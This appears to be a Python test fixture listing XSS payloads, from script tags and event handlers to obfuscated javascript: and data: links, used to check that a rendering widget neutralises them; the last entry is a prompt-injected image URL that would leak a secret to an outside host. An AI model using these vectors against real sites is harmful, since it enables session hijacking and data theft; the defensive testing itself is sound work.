"""The XSS corpus: each payload would set `window.__pwned` (or open a dialog) if it ran, and
carries a marker (XSS00, XSS01, …) that must still be readable in the widget."""

from __future__ import annotations

PAYLOADS: list[str] = [
    "<script>window.__pwned='00'</script>XSS00",
    "<img src=x onerror=\"window.__pwned='01'\">XSS01",
    "<svg onload=\"window.__pwned='02'\"><circle r=9></circle></svg>XSS02",
    "<svg><script>window.__pwned='03'</script></svg>XSS03",
    "<a href=\"javascript:window.__pwned='04'\">XSS04</a>",
    "[XSS05](javascript:window.__pwned='05')",
    "[XSS06](JaVaScRiPt:window.__pwned='06')",
    "[XSS07](&#106;avascript:window.__pwned='07')",
    "[XSS08](java%0ascript:window.__pwned='08')",
    "[XSS09](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0nMDknPC9zY3JpcHQ+)",
    "![XSS10](x\" onerror=\"window.__pwned='10')",
    "![XSS11](javascript:window.__pwned='11')",
    "![XSS12](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEyKSIvPg==)",
    "<javascript:window.__pwned='13'> XSS13",
    "[XSS14][r]\n\n[r]: javascript:window.__pwned='14'",
    "<iframe src=\"javascript:window.__pwned='15'\"></iframe>XSS15",
    "<details open ontoggle=\"window.__pwned='16'\">XSS16</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='17'\">XSS17",
    "`<img src=x onerror=\"window.__pwned='18'\">` XSS18",
    '<a href="#" onclick="window.__pwned=\'19\'" style="position:fixed;inset:0">XSS19</a>',
    "[XSS20](vbscript:msgbox(20))",
    '<body onload="alert(21)">XSS21',
    "<input autofocus onfocus=\"window.__pwned='22'\">XSS22",
    "[XSS23](data:text/html,<script>alert(23)</script>)",
    "<object data=\"javascript:window.__pwned='24'\"></object>XSS24",
    '<form action="javascript:alert(25)"><button>XSS25</button></form>',
    '"><img src=x onerror=alert(26)>XSS26',
    "<style>@import 'javascript:alert(27)';</style>XSS27",
    # Exfiltration by a prompt-injected image: it must not be fetched (the session fails on
    # any request to an outside host).
    "![XSS28](http://192.0.2.1/leak.png?q=secret)",
]


def marker(i: int) -> str:
    return f"XSS{i:02d}"
